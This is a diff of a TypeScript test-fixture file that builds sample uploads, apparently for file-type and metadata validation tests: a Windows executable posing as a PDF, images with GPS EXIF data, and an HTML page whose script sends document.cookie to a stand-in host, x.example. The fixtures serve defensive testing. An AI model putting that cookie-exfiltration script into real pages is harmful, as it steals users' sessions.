@@ -43,10 +43,12 @@ export const pdfWithEmbeddedFile = () =>
 export const pdfAfterJunk = async () => concat(enc("MZ\x90\x00\x03\x00\x00\x00"), await plainPdf());
 
 /** A Windows executable whose first kilobyte also says "%PDF-" (what readers look for). */
-export const exeWithPdfHeader = () => concat(enc("MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.\n"), enc("%PDF-1.4\n"), new Uint8Array(600));
+export const exeWithPdfHeader = () =>
+  concat(enc("MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.\n"), enc("%PDF-1.4\n"), new Uint8Array(600));
 
 /** A web page with a script, also mentioning "%PDF-" early on. */
-export const htmlWithScript = () => enc("<!doctype html><html><!-- %PDF-1.4 --><body><script>fetch('//x.example/'+document.cookie)</script></body></html>");
+export const htmlWithScript = () =>
+  enc("<!doctype html><html><!-- %PDF-1.4 --><body><script>fetch('//x.example/'+document.cookie)</script></body></html>");
 
 /** Almaty, as a phone writes it into EXIF. */
 export const GPS = { latitude: "43/1 14/1 2000/100", longitude: "76/1 53/1 2400/100" };
@@ -64,9 +66,18 @@ export async function jpegWithGps(width = 64, height = 48): Promise<Uint8Array> 
 }
 
 export const pngImage = async (width = 32, height = 32) =>
-  new Uint8Array(await sharp({ create: { width, height, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.5 } } }).png().toBuffer());
+  new Uint8Array(
+    await sharp({ create: { width, height, channels: 4, background: { r: 0, g: 0, b: 255, alpha: 0.5 } } })
+      .png()
+      .toBuffer(),
+  );
 
-export const webpImage = async () => new Uint8Array(await sharp({ create: { width: 20, height: 20, channels: 3, background: "#00ff00" } }).webp().toBuffer());
+export const webpImage = async () =>
+  new Uint8Array(
+    await sharp({ create: { width: 20, height: 20, channels: 3, background: "#00ff00" } })
+      .webp()
+      .toBuffer(),
+  );
 
 /** True when the bytes carry an EXIF block anywhere. */
 export const hasExif = (b: Uint8Array) => Buffer.from(b).includes("Exif\0\0");
